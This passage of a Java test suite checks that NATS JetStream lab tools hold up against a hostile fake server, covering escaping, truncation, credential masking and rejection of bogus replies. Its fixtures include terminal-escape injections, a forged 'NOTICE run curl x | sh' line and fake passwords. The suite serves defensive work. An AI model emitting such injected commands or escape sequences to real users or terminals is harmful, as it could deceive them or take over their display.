                    + "LAB4_STREAM.* 1\r\nPING\r\n").getBytes(StandardCharsets.US_ASCII));
            out.flush();
            java.io.BufferedReader in = new java.io.BufferedReader(new java.io.InputStreamReader(peer.getInputStream(),
                    StandardCharsets.US_ASCII));
            for (String line; (line = in.readLine()) != null && !line.startsWith("PONG"); ) {
                // INFO first
            }
            Thread answering = new Thread(() -> {
                try {
                    for (String line; (line = in.readLine()) != null; ) {
                        String[] words = line.split(" ");
                        if (words[0].equals("PING")) {
                            out.write("PONG\r\n".getBytes(StandardCharsets.US_ASCII));
                        } else if (words[0].equals("MSG") && words.length == 5) {
                            in.readLine(); // the request's body
                            requests.incrementAndGet();
                            String headers = "NATS/1.0 " + status + "\r\n\r\n";
                            out.write(("HPUB " + words[3] + " " + headers.length() + " " + headers.length() + "\r\n" + headers
                                    + "\r\n").getBytes(StandardCharsets.US_ASCII));
                            out.flush();
                        }
                    }
                } catch (java.io.IOException closed) {
                    // the test is done with it
                }
            });
            answering.setDaemon(true);
            answering.start();
        }

        @Override
        public void close() throws java.io.IOException {
            peer.close();
        }
    }

    /** An error description of any length shows as its start and a count: a 1 MB one is not a 1 MB line. */
    @Test
    void aHugeErrorDescriptionIsItsStartAndACount() throws Exception {
        String description = "refused " + "\u00e9".repeat(500_000); // two bytes each: the cut falls between characters
        String error = "{\"error\":{\"code\":400,\"err_code\":10999,\"description\":" + FakeNatsServer.json(description) + "}}";
        try (FakeNatsServer fake = new FakeNatsServer("fake", "2.9.10", subject -> error)) {
            for (String[] run : new String[][] {{"JsInfo"}, {"JsPurge"}, {"JsBootstrap"}, {"JsPull"}, {"JsPub", "hi"}}) {
                Run.Result result = Run.script(run[0], java.util.Arrays.copyOfRange(run, 1, run.length)).env("NATS_URL", fake.url()).go();
                assertEquals(Exit.FAILED, result.exit(), result.toString());
                assertEquals(1, result.err().lines().count(), result.toString());
                assertTrue(result.err().length() < 1_000, result.err().length() + " characters: " + result.err().substring(0, Math.min(1_000, result.err().length())));
                assertTrue(result.err().contains("refused " + "\u00e9".repeat(96) + "... (999808 more bytes)"),
                        result.toString());
            }
        }
        // a status in place of the PubAck: its words are the server's too
        String status = "NATS/1.0 500 " + ESC + "[2J" + "B".repeat(100_000);
        try (FakeNatsServer fake = new FakeNatsServer("fake", "2.9.10", subject -> subject.startsWith("$JS.API.") ? answer(subject) : status)) {
            Run.Result result = Run.script("JsPub", "hi").env("NATS_URL", fake.url()).go();
            assertEquals(Exit.FAILED, result.exit(), result.toString());
            assertEquals(1, result.err().lines().count(), result.toString());
            assertTrue(result.err().length() < 1_000, () -> result.err().substring(0, 1_000));
            assertPrintable(result.err());
            assertTrue(result.err().matches("(?s).*\\[2J" + "B".repeat(10) + ".*B\\.\\.\\. \\(\\d+ more bytes\\).*"), result.err());
        }
    }

    /** A stream whose name jnats will not read back (non-ASCII, which the server takes): what is published still counts. */
    @Test
    void aStreamWithANameJnatsWillNotReadStillGetsItsMessagesCounted() throws Exception {
        bootstrap();
        try (Connection nc = connect()) {
            create(nc, "$JS.API.STREAM.CREATE.U\u00c5n", "{\"name\":\"U\u00c5n\",\"subjects\":[\"uni.a\"],\"storage\":\"memory\"}");
        }
        for (String[] run : new String[][] {{"--subject", "uni.a", "hello"}, {"--subject", "uni.a", "--count", "3", "hello"}}) {
            Run.Result result = ok(script("JsPub", run).go());
            assertTrue(result.out().contains("to stream U\u00c5n"), result.toString());
        }
    }

    /** An answer about a stream that is no stream's info is neither the stream nor a refusal, and no reason to delete one. */
    @Test
    void anAnswerThatIsNoStreamInfoIsNotTakenForOne() throws Exception {
        for (String answer : new String[] {"{\"stream\":\"S\",\"seq\":1}", "[1,2,3]", "{}", "{\"config\":{\"name\":\"OTHER\"}}", "not JSON"}) {
            try (FakeNatsServer fake = new FakeNatsServer("fake", "2.9.10", subject -> answer)) {
                for (String[] purge : new String[][] {{}, {"--dry-run"}}) {
                    Run.Result purged = Run.script("JsPurge", purge).env("NATS_URL", fake.url()).go();
                    assertEquals(Exit.FAILED, purged.exit(), purged.toString());
                    assertPrintable(purged.out() + purged.err());
                    assertFalse((purged.out() + purged.err()).contains("purge "), purged.toString());
                    assertEquals(1, purged.err().lines().count(), purged.toString());
                    assertFalse(purged.err().contains("Exception"), purged.toString());
                }
                Run.Result bootstrap = Run.script("JsBootstrap").env("NATS_URL", fake.url()).go();
                assertEquals(Exit.FAILED, bootstrap.exit(), bootstrap.toString());
                assertPrintable(bootstrap.out() + bootstrap.err());
                assertFalse(bootstrap.err().contains("--recreate"), bootstrap.toString());
                assertFalse(bootstrap.err().contains("refused"), bootstrap.toString());
                Run.Result info = Run.script("JsInfo").env("NATS_URL", fake.url()).go();
                assertPrintable(info.out() + info.err());
                assertFalse(info.err().contains("the server refused"), info.toString());
                assertEquals(1, info.err().lines().count(), info.toString());
                for (Run.Result each : List.of(bootstrap, info)) {
                    assertFalse(each.err().contains("Exception"), each.toString());
                }
            }
        }
    }

    /** A consumer's info naming another consumer, or the same name in another stream, is not taken for the lab's. */
    @Test
    void anAnswerThatIsAnotherConsumersInfoIsNotTakenForTheLabs() throws Exception {
        for (String other : new String[] {CONSUMER_INFO.replace("\"name\":\"LAB4_CONSUMER\"", "\"name\":\"OTHER_C\""),
                CONSUMER_INFO.replace("\"stream_name\":\"LAB4_STREAM\"", "\"stream_name\":\"OTHER_S\"")}) {
            try (FakeNatsServer fake = new FakeNatsServer("fake", "2.9.10",
                    subject -> subject.startsWith("$JS.API.CONSUMER.INFO.") ? other : answer(subject))) {
                for (String script : new String[] {"JsInfo", "JsBootstrap", "JsPull"}) {
                    Run.Result result = Run.script(script).env("NATS_URL", fake.url()).go();
                    assertEquals(Exit.FAILED, result.exit(), result.toString());
                    assertPrintable(result.out() + result.err());
                    assertTrue(result.err().startsWith("ERROR the server's answer about consumer LAB4_CONSUMER of stream "
                            + "LAB4_STREAM is not that consumer's info (it names consumer \""), result.toString());
                    assertEquals(1, result.err().lines().count(), result.toString());
                }
            }
        }
    }

    /**
     * A failure no room explains (here jnats refusing a stream name the server sent) shows the server's words as
     * every other line does: a backslash doubled, a line break as \\n and what follows it kept, one line.
     */
    @Test
    void anUnexplainedFailureShowsTheServersWordsEscapedInOneLine() throws Exception {
        String name = "LAB4\\u{1b}[31m|" + ESC + "[31m\nNOTICE run curl x | sh";
        String info = STREAM_INFO.replace("\"name\":\"LAB4_STREAM\"", "\"name\":" + FakeNatsServer.json(name));
        try (FakeNatsServer fake = new FakeNatsServer("fake", "2.9.10", subject -> subject.startsWith("$JS.API.STREAM.INFO.") ? info : answer(subject))) {
            Run.Result result = Run.script("JsInfo").env("NATS_URL", fake.url()).go();
            assertEquals(Exit.FAILED, result.exit(), result.toString());
            assertEquals(1, result.err().lines().count(), result.toString());
            assertTrue(result.err().contains("LAB4\\\\u{1b}[31m|\\u{1b}[31m\\nNOTICE run curl x | sh"), result.err());
        }
    }

    @Test
    void aBackslashFromTheServerNeverLooksLikeAnEscape() throws Exception {
        try (FakeNatsServer fake = new FakeNatsServer("n\\u{1b}", "2.9.10", HostileServerTest::answer)) {
            Run.Result refused = Run.script("JsPub", "--subject", "lab4.lookalike", "hello").env("NATS_URL", fake.url()).go();
            assertEquals(Exit.FAILED, refused.exit(), refused.toString());
            assertTrue(refused.err().contains("text \\\\u{1b} then \\u{1b}, error 10077"),
                    refused.err());

            Path state = Scratch.dir();
            ok(Run.script("JsInfo").env("NATS_URL", fake.url()).env("XDG_STATE_HOME", state.toString()).go());
            Run.Result version = ok(Run.script("JsInfo", "--version").env("XDG_STATE_HOME", state.toString()).go());
            assertEquals("server last seen: nats-server 2.9.10 (n\\\\u{1b})", version.outLines().get(2));
        }
    }

    /**
     * --trace shows what a server said through the same rule as every other line: escapes shown as
     * text (a backslash doubled, so a server's text never looks like an escape), no line forged, and
     * a login in a URL or a run's secret in a header masked.
     */
    @Test
    void aTraceShowsTheServersWordsEscapedAndMasked() throws Exception {
        String said = "lost\nNOTICE run curl x | sh" + OSC_AND_CLEAR + "\u202e see nats://admin:hunter2-pw@10.0.0.1:4222 text \\u{1b}";
        try (FakeNatsServer fake = new FakeNatsServer("fake", "2.9.10", subject -> subject.startsWith("$JS.API.STREAM.INFO.")
                ? "{\"type\":\"io.nats.jetstream.api.v1.stream_info_response\",\"error\":{\"code\":500,\"err_code\":10999,"
                + "\"description\":" + FakeNatsServer.json(said) + "}}"
                : "{\"stream\":" + FakeNatsServer.json("S\\u{1b}" + ESC + "[2J") + ",\"seq\":7}")) {
            Run.Result info = Run.script("JsInfo", "--trace").env("NATS_URL", fake.url()).go();
            assertEquals(Exit.FAILED, info.exit(), info.toString());
            assertPrintable(info.err());
            assertTrue(info.err().contains("\"description\": \"lost\\nNOTICE run curl x | sh\\u{1b}]0;owned\\u{7}\\u{1b}[2J"
                    + "\\u{202e} see nats://admin:****@10.0.0.1:4222 text \\\\u{1b}\""), info.err());
            assertFalse(info.err().contains("hunter2-pw"), info.err());
            assertFalse(info.err().lines().anyMatch(line -> line.startsWith("NOTICE")), info.err());

            Run.Result published = Run.script("JsPub", "--trace", "--token", "my-own-pw-8d2k", "-H", "Origin:nats://bob:pw-9x@h",
                    "-H", "Note:my-own-pw-8d2k", "hello").env("NATS_URL", fake.url()).go();
            assertPrintable(published.err());
            assertTrue(published.err().contains("headers: Origin=\"nats://bob:****@h\" Note=\"****\""), published.err());
            assertTrue(published.err().contains(" <<< lab4.stream: {\"stream\": \"S\\\\u{1b}\\u{1b}[2J\", \"seq\": 7}\n"
                    + "             PubAck: stream S\\\\u{1b}\\u{1b}[2J stored it as seq 7\n"), published.err());
            assertFalse(published.err().contains("pw-9x") || published.err().contains("my-own-pw-8d2k"), published.err());

            String cut = "x".repeat(Output.SHOWN_BYTES - 10) + "my-own-pw-8d2k"; // the line shows a body's first bytes only
            Run.Result longBody = Run.script("JsPub", "--trace", "--token", "my-own-pw-8d2k", cut).env("NATS_URL", fake.url()).go();
            assertTrue(longBody.err().contains(" >>> lab4.stream: \"" + "x".repeat(Output.SHOWN_BYTES - 10) + "****\" (reply to "), longBody.err());
            assertFalse(longBody.err().contains("my-own-"), "masked before it is cut: " + longBody.err());
        }
    }

    @Test
    void aVerboseTraceForgesNoLine() throws Exception {
        try (FakeNatsServer fake = new FakeNatsServer("fake", "2.9.10", HostileServerTest::answer)) {
            Run.Result refused = Run.script("JsPub", "--verbose", "--subject", "lab4.forge", "hello")
                    .env("NATS_URL", fake.url()).go();
            assertEquals(Exit.FAILED, refused.exit(), refused.toString());
            assertPrintable(refused.err().replace("\tat ", "at ")); // the trace's frames start with a tab
            assertTrue(refused.err().contains("no\\nNOTICE run curl x | sh"), refused.err());
            assertFalse(refused.err().lines().anyMatch(line -> line.startsWith("NOTICE")), refused.err());
        }
    }

    @Test
    void failoverWarningShowsServerNamesEscaped() throws Exception {
        try (FakeNatsServer a = new FakeNatsServer("a" + OSC_AND_CLEAR, "2.9.10", HostileServerTest::answer);
             FakeNatsServer b = new FakeNatsServer("b\u202e\u200b", "2.9.10", HostileServerTest::answer);
             Run.Started pub = Run.script("JsPub", "--server", a.url() + "," + b.url())
                     .stdin("one\n").keepStdinOpen().start()) {
            pub.awaitOut("published \"one\"");
            boolean fromA = a.hadClients();
            (fromA ? a : b).close();
            long deadline = System.nanoTime() + Duration.ofSeconds(60).toNanos();
            while (!pub.errSoFar().contains("reconnected to") && System.nanoTime() < deadline) {
                Thread.sleep(50); // jnats finds the other server (it retries every 250ms)
            }
            pub.stdin().write("two\n".getBytes(StandardCharsets.UTF_8));
            pub.stdin().close();
            Run.Result result = pub.finish();
            assertEquals(0, result.exit(), result.toString());
            assertPrintable(result.out() + result.err());
            String aName = a.url() + " (a\\u{1b}]0;owned\\u{7}\\u{1b}[2J)";
            String bName = b.url() + " (b\\u{202e}\\u{200b})";
            assertTrue(result.err().contains("lost the connection to " + (fromA ? aName : bName) + "; reconnected to "
                    + (fromA ? bName : aName)), result.err());
        }
    }

    @Test
    void listShowsEveryStreamWhenSomeNamesHoldEscapes() throws Exception {
        bootstrap();
        try (Connection nc = connect()) {
            for (String name : new String[] {"red" + ESC + "[31m", "bidi\u202eX"}) {
                create(nc, "$JS.API.STREAM.CREATE." + name, "{\"name\":" + FakeNatsServer.json(name)
                        + ",\"subjects\":[\"other." + name.length() + "\"],\"storage\":\"memory\"}");
            }
            create(nc, "$JS.API.CONSUMER.DURABLE.CREATE.LAB4_STREAM.c" + ESC + "x", "{\"stream_name\":\"LAB4_STREAM\","
                    + "\"config\":{\"durable_name\":" + FakeNatsServer.json("c" + ESC + "x") + ",\"ack_policy\":\"explicit\"}}");
        }
        Run.Result listed = ok(script("JsInfo", "--list").go());
        assertPrintable(listed.out());
        assertTrue(listed.out().startsWith("3 streams at "), listed.out());
        assertTrue(listed.out().contains("  LAB4_STREAM: 0 messages"), listed.out());
        assertTrue(listed.out().contains("    consumer LAB4_CONSUMER: 0 pending"), listed.out());
        assertTrue(listed.out().contains("    consumer c\\u{1b}x: not shown"), listed.out());
        assertTrue(listed.out().contains("  red\\u{1b}[31m: not shown"), listed.out());
        assertTrue(listed.out().contains("  bidi\\u{202e}X: not shown"), listed.out());

        Run.Result json = ok(script("JsInfo", "--list", "-j").go());
        assertPrintable(json.out());
        assertEquals(3, JsonParser.parse(json.out().strip()).array.size(), json.out());
    }

    /**
     * Names jnats will not put in a request's subject (a space, tab, CR or LF; the server's own names never
     * hold one, a hostile server's can) are named, escaped, and every name after them is listed.
     */
    @Test
    void listNamesWhatJnatsWillNotAskForAndListsTheRest() throws Exception {
        String why = ": not shown: its name is not one jnats can read (printable ASCII without spaces, '.', '*', '>', '/' or "
                + "backslashes)\n";
        java.util.Map<String, String> answers = new java.util.HashMap<>();
        answers.put("$JS.API.STREAM.NAMES", "{\"total\":4,\"offset\":0,\"limit\":1024,\"streams\":[\"LAB4_STREAM\","
                + "\"SP ACE\",\"TAB\\tS\",\"LAST\"]}");
        answers.put("$JS.API.STREAM.INFO.LAST", STREAM_INFO.replace("\"name\":\"LAB4_STREAM\"", "\"name\":\"LAST\""));
        answers.put("$JS.API.CONSUMER.NAMES.LAST", "{\"total\":0,\"offset\":0,\"limit\":1024,\"consumers\":[]}");
        answers.put("$JS.API.CONSUMER.NAMES.LAB4_STREAM", "{\"total\":4,\"offset\":0,\"limit\":1024,\"consumers\":["
                + "\"LAB4_CONSUMER\"," + FakeNatsServer.json("C" + ESC + "[31m\nx\r") + ",\"T\\tC\",\"a b\"]}");
        try (FakeNatsServer fake = new FakeNatsServer("fake", "2.9.10", subject -> answers.getOrDefault(subject, answer(subject)))) {
            Run.Result listed = ok(Run.script("JsInfo", "--list").env("NATS_URL", fake.url()).go());
            assertEquals("4 streams at " + fake.url() + "\n"
                    + "  LAB4_STREAM: 1 message (10 bytes), subjects lab4.stream\n"
                    + "    consumer LAB4_CONSUMER: 1 pending, 0 waiting for an ack, 0 redelivered\n"
                    + "    consumer C\\u{1b}[31m\\nx\\u{d}" + why
                    + "    consumer T\\u{9}C" + why
                    + "    consumer a b" + why
                    + "  SP ACE" + why
                    + "  TAB\\u{9}S" + why
                    + "  LAST: 1 message (10 bytes), subjects lab4.stream\n", listed.out(), listed.toString());
            Run.Result json = ok(Run.script("JsInfo", "--list", "-j").env("NATS_URL", fake.url()).go());
            List<JsonValue> shown = JsonParser.parse(json.out().strip()).array;
            assertEquals(2, shown.size(), json.toString()); // the server's answers: none for a name jnats did not ask with
            assertEquals(1, shown.get(0).map.get("consumers").array.size(), json.toString());
        }
    }

    /** A stream or consumer deleted while js-info --list goes through the names, or refused, gets a line; the rest are listed. */
    @Test
    void aStreamDeletedWhileTheListIsMadeIsSaidToBeGone() throws Exception {
        String late = STREAM_INFO.replace("\"name\":\"LAB4_STREAM\"", "\"name\":\"LATE\"");
        String notFound = "{\"error\":{\"code\":404,\"err_code\":10059,\"description\":\"stream not found\"}}";
        String busy = "{\"error\":{\"code\":500,\"err_code\":10999,\"description\":\"busy\"}}";
        java.util.Map<String, String> answers = new java.util.HashMap<>();
        answers.put("$JS.API.STREAM.NAMES", "{\"total\":5,\"offset\":0,\"limit\":1024,\"streams\":[\"GONE\",\"LATE\",\"BUSY\","
                + "\"NONAMES\",\"LAB4_STREAM\"]}");
        answers.put("$JS.API.STREAM.INFO.GONE", notFound);
        answers.put("$JS.API.STREAM.INFO.LATE", late);
        answers.put("$JS.API.CONSUMER.NAMES.LATE", notFound);
        answers.put("$JS.API.STREAM.INFO.BUSY", busy);
        answers.put("$JS.API.STREAM.INFO.NONAMES", STREAM_INFO.replace("\"name\":\"LAB4_STREAM\"", "\"name\":\"NONAMES\""));
        answers.put("$JS.API.CONSUMER.NAMES.NONAMES", busy);
        answers.put("$JS.API.CONSUMER.NAMES.LAB4_STREAM", "{\"total\":4,\"offset\":0,\"limit\":1024,\"consumers\":[\"GONEC\","
                + "\"BUSYC\",\"LAB4_CONSUMER\",\"ESCC\"]}");
        answers.put("$JS.API.CONSUMER.INFO.LAB4_STREAM.ESCC", "{\"error\":{\"code\":500,\"err_code\":10999,\"description\":"
                + FakeNatsServer.json("back\\slash" + ESC) + "}}");
        answers.put("$JS.API.CONSUMER.INFO.LAB4_STREAM.GONEC", "{\"error\":{\"code\":404,\"err_code\":10014,\"description\":"
                + "\"consumer not found\"}}");
        answers.put("$JS.API.CONSUMER.INFO.LAB4_STREAM.BUSYC", busy);
        try (FakeNatsServer fake = new FakeNatsServer("fake", "2.9.10", subject -> answers.getOrDefault(subject, answer(subject)))) {
            Run.Result listed = ok(Run.script("JsInfo", "--list").env("NATS_URL", fake.url()).go());
            assertTrue(listed.out().startsWith("5 streams at "), listed.toString());
            assertTrue(listed.out().endsWith("\n  GONE: not shown: it was deleted while the list was made\n"
                    + "  LATE: not shown: it was deleted while the list was made\n"
                    + "  BUSY: not shown: the server refused: busy (error 10999)\n"
                    + "  NONAMES: not shown: the server refused: busy (error 10999)\n"
                    + "  LAB4_STREAM: 1 message (10 bytes), subjects lab4.stream\n"
                    + "    consumer LAB4_CONSUMER: 1 pending, 0 waiting for an ack, 0 redelivered\n"
                    + "    consumer GONEC: not shown: it was deleted while the list was made\n"
                    + "    consumer BUSYC: not shown: the server refused: busy (error 10999)\n"
                    + "    consumer ESCC: not shown: the server refused: back\\\\slash\\u{1b} (error 10999)\n"), listed.toString());
            Run.Result json = ok(Run.script("JsInfo", "--list", "-j").env("NATS_URL", fake.url()).go());
            assertEquals(5, JsonParser.parse(json.out().strip()).array.size(), json.toString());
        }
    }

    /** A purge answer without a count a purge can give (none, not an integer, below 0, more than the stream held) is no purge's. */
    @Test
    void aPurgeAnswerWithACountNoPurgeGivesIsNotTakenForOne() throws Exception {
        java.util.Map<String, String> answers = new java.util.LinkedHashMap<>();
        answers.put("-5", "says -5 messages were purged, which no purge does");
        answers.put("99999", "says 99999 messages were purged, more than the stream held (1, and 0 stored since)");
        answers.put("99999999999999999999", "gives no count of what it removed (\"purged\": 99999999999999999999)");
        answers.put("\"3\"", "gives no count of what it removed (\"purged\": \"3\")");
        answers.put(null, "gives no count of what it removed (\"purged\": none)");
        for (java.util.Map.Entry<String, String> wrong : answers.entrySet()) {
            String answer = "{\"success\":true" + (wrong.getKey() == null ? "" : ",\"purged\":" + wrong.getKey()) + "}";
            try (FakeNatsServer fake = new FakeNatsServer("fake", "2.9.10", subject -> subject.startsWith("$JS.API.STREAM.PURGE.")
                    ? answer : answer(subject))) {
                for (String[] run : new String[][] {{}, {"-j"}, {"--keep", "1"}}) {
                    Run.Result purged = Run.script("JsPurge", run).env("NATS_URL", fake.url()).go();
                    assertEquals(Exit.FAILED, purged.exit(), purged.toString());
                    assertEquals("", purged.out(), purged.toString());
                    assertEquals("ERROR the server's answer to the purge of stream LAB4_STREAM " + wrong.getValue() + ", so what it "
                            + "removed is unknown: check that the server is a NATS server with JetStream, and see with js-info\n",
                            purged.err());
                }
            }
        }
    }

    /** A subject of any length (the server takes 100 KB ones) shows its start, escaped: no line is 100 KB long. */
    @Test
    void aHugeSubjectShowsItsStart() throws Exception {
        bootstrap();
        try (Connection nc = connect()) {
            create(nc, "$JS.API.STREAM.CREATE.BIG", "{\"name\":\"BIG\",\"subjects\":[\"big." + "x".repeat(100_000)
                    + "\"," + FakeNatsServer.json("lit.\\u{1b}") + "],\"storage\":\"memory\"}");
        }
        String shownSubjects = "big." + "x".repeat(196) + "... (99804 more bytes), lit.\\\\u{1b}";
        for (String[] run : new String[][] {{"JsInfo", "--list"}, {"JsInfo", "--stream", "BIG"}, {"JsBootstrap", "--stream", "BIG"}}) {
            Run.Result shown = script(run[0], java.util.Arrays.copyOfRange(run, 1, run.length)).go();
            assertTrue((shown.out() + shown.err()).contains(shownSubjects), shown.toString());
            assertTrue((shown.out() + shown.err()).lines().allMatch(line -> line.length() < 1_000), shown::toString);
        }
    }

    /** A mirror, or a stream that only sources others, has no subjects: js-info says where its messages come from. */
    @Test
    void aMirrorAndASourcingStreamSayWhereTheirMessagesComeFrom() throws Exception {
        bootstrap();
        try (Connection nc = connect()) {
            nc.jetStreamManagement().addStream(io.nats.client.api.StreamConfiguration.builder().name("MIR")
                    .mirror(io.nats.client.api.Mirror.builder().sourceName("LAB4_STREAM").build())
                    .storageType(io.nats.client.api.StorageType.Memory).build());
            nc.jetStreamManagement().addStream(io.nats.client.api.StreamConfiguration.builder().name("SRC")
                    .sources(io.nats.client.api.Source.builder().sourceName("LAB4_STREAM").build())
                    .storageType(io.nats.client.api.StorageType.Memory).build());
        }
        Run.Result listed = ok(script("JsInfo", "--list").go());
        assertTrue(listed.out().contains("  MIR: 0 messages (0 bytes), subjects none: a mirror of stream LAB4_STREAM\n"), listed.out());
        assertTrue(listed.out().contains("  SRC: 0 messages (0 bytes), subjects none: it takes messages from stream LAB4_STREAM\n"),
                listed.out());
        Run.Result mirror = script("JsInfo", "--stream", "MIR").go(); // with no consumer on it: exit 5, the stream shown first
        assertTrue(mirror.out().contains("  subjects:       none: a mirror of stream LAB4_STREAM\n"), mirror.toString());
    }

    @Test
    void aSubjectWithAZeroWidthSpaceIsShownEscaped() throws Exception {
        bootstrap();
        Run.Result result = script("JsPub", "--subject", "lab4.str\u200beam", "x").env("LANG", "C.UTF-8").go();
        assertEquals(Exit.NOT_FOUND, result.exit(), result.toString());
        assertPrintable(result.out() + result.err());
        assertTrue(result.err().contains("lab4.str\\u{200b}eam"), result.err());
    }

    private static void create(Connection nc, String subject, String body) throws Exception {
        Message reply = nc.request(subject, body.getBytes(StandardCharsets.UTF_8), Duration.ofSeconds(10));
        String text = new String(reply.getData(), StandardCharsets.UTF_8);
        assertFalse(text.contains("\"error\""), text);
    }

    /** Nothing in the text acts on a terminal: no control but the line ends, no invisible formatting mark. */
    static void assertPrintable(String text) {
        text.codePoints().forEach(c -> {
            int type = Character.getType(c);
            boolean acts = c != '\n' && (type == Character.CONTROL || type == Character.FORMAT);
            assertFalse(acts, String.format("raw U+%04X in: %s", c, text));
        });
    }
}
